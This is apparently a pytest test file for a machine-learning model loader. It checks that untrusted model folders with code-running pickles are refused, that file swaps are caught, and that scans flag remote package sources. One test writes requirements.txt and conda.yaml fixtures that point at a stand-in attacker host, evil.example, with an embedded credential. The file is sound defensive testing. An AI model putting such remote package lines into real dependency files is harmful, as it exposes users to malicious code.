"""A stranger's folder runs nothing, whichever way it is looked at; each is refused with one clear error."""

from __future__ import annotations

import ast
import contextlib
import io
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

import drupe
from drupe.cli.main import main
from drupe.errors import ArtifactCorrupt, DrupeError, UntrustedModel
from drupe.loading import catalog
from drupe.models.gate import admit, allow
from drupe.models.opening import load_native
from tests.hostile_models.folders import HOSTILE, TRUSTABLE

Make = Callable[[str], Path]
ROOT = Path(__file__).parents[2]


def cli(*arguments: str) -> tuple[int, str]:
    """The exit code of a command line and what it printed."""
    printed = io.StringIO()
    with contextlib.redirect_stdout(printed), contextlib.redirect_stderr(printed):
        code = main(arguments)
    return code, printed.getvalue()


def ways(folder: Path) -> Iterator[tuple[str, Callable[[], Any]]]:
    """Everything that takes the address of a model and does not say that it trusts it."""
    yield "load_model", lambda: drupe.load_model(folder)
    for entry in catalog().offers("drupe_model_flavors"):
        yield f"{entry.offer.name}.load_model", lambda name=entry.offer.name: load_native(name, folder)
    yield "get_model_info", lambda: drupe.models.get_model_info(folder)
    yield "register_model", lambda: drupe.register_model(str(folder), "stolen")
    for verb in ("show", "scan", "verify"):
        yield verb, lambda verb=verb: cli("models", verb, str(folder))
    yield "predict", lambda: cli("models", "predict", str(folder), "-i", str(folder / "input_example.json"))


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_of_it_is_run_and_loading_it_is_refused_in_words(name: str, make: Make, marker: Path) -> None:
    folder = make(name)
    for way, look in ways(folder):
        with contextlib.suppress(DrupeError):
            look()
        assert not marker.exists(), f"{way} has run the code of {name}"
    with pytest.raises(DrupeError) as refused:
        drupe.load_model(folder)
    assert str(folder) in refused.value.message or any(file.name in refused.value.message for file in folder.iterdir())
    assert len(refused.value.message.splitlines()) == 1


@pytest.mark.parametrize("name", sorted(TRUSTABLE))
def test_what_can_be_loaded_is_loaded_once_it_is_trusted(name: str, make: Make, marker: Path) -> None:
    folder = make(name)
    with pytest.raises(UntrustedModel, match="drupe models trust"):
        drupe.load_model(folder)
    assert cli("models", "trust", str(folder))[0] == 0
    with contextlib.suppress(DrupeError):  # what comes out of the pickle is None, which is no model
        drupe.load_model(folder)
    assert marker.exists()


def test_the_harmless_model_that_all_are_made_from_loads_whoever_made_it(harmless: Path, drupe_workspace: Path) -> None:
    assert drupe.load_model(harmless).flavor == "sklearn"


@pytest.mark.parametrize("name", sorted(TRUSTABLE))
def test_a_scan_names_what_would_be_run(name: str, make: Make) -> None:
    code, told = cli("models", "scan", str(make(name)), "--output", "csv")
    assert code == 1
    assert "mkdir" in told or "script" in told
    assert told.startswith("kind,path,reason,names,calls")


def test_a_file_that_is_swapped_after_it_was_checked_is_not_loaded(make: Make, marker: Path) -> None:
    folder = make("a pickle of protocol 4")
    admitted = admit(folder)
    content = (folder / "model.pkl").read_bytes()
    (folder / "model.pkl").unlink()
    (folder / "model.pkl").write_bytes(content)
    with pytest.raises(ArtifactCorrupt, match="was changed while the model was being loaded"):
        allow(admitted, trust=True)
    assert not marker.exists()


def test_where_others_can_write_a_private_copy_is_checked_and_loaded(harmless: Path, tmp_path: Path, drupe_workspace: Path) -> None:
    folder = tmp_path / "shared"
    shutil.copytree(harmless, folder)
    folder.chmod(0o777)
    admitted = admit(folder)
    assert admitted.folder != folder
    assert admitted.folder.stat().st_mode & 0o077 == 0
    (folder / "model.skops").write_bytes(b"swapped")
    allow(admitted)
    assert (admitted.folder / "model.skops").read_bytes() == (harmless / "model.skops").read_bytes()
    assert drupe.load_model(harmless).predict([[1, 0]]).tolist() == [0]


def test_a_hard_link_is_a_file_like_any_other(harmless: Path, tmp_path: Path, drupe_workspace: Path) -> None:
    folder = tmp_path / "linked"
    shutil.copytree(harmless, folder)
    (tmp_path / "other-name").hardlink_to(folder / "model.skops")
    assert drupe.load_model(folder).flavor == "sklearn"


def test_lines_that_fetch_packages_from_elsewhere_are_shown_without_their_secrets(make: Make) -> None:
    folder = make("a format that nobody knows")
    (folder / "requirements.txt").write_text(
        "numpy==2.0\n-r requirements.txt\n--extra-index-url https://joe:hunter2@evil.example/simple\n-e ../here\nacme @ https://evil.example/a.whl\n"
        "git+https://evil.example/x.git\n"
    )
    (folder / "conda.yaml").write_text("dependencies: [python=3.11, {pip: ['--find-links https://evil.example', numpy]}]\n")
    _, told = cli("models", "scan", str(folder), "--output", "csv")
    assert [line.split(",")[1] for line in told.splitlines() if line.startswith("note")] == ["requirements.txt"] * 4 + ["conda.yaml"]
    assert "hunter2" not in told


def test_the_server_has_nothing_that_loads_models() -> None:
    for file in (ROOT / "plugins/server_rest/drupe_server_rest").rglob("*.py"):
        for node in ast.walk(ast.parse(file.read_text())):
            names = (
                [node.module]
                if isinstance(node, ast.ImportFrom)
                else [one.name for one in node.names]
                if isinstance(node, ast.Import)
                else []
            )
            assert not any(str(name).startswith("drupe.models") for name in names), f"{file} imports {names}"
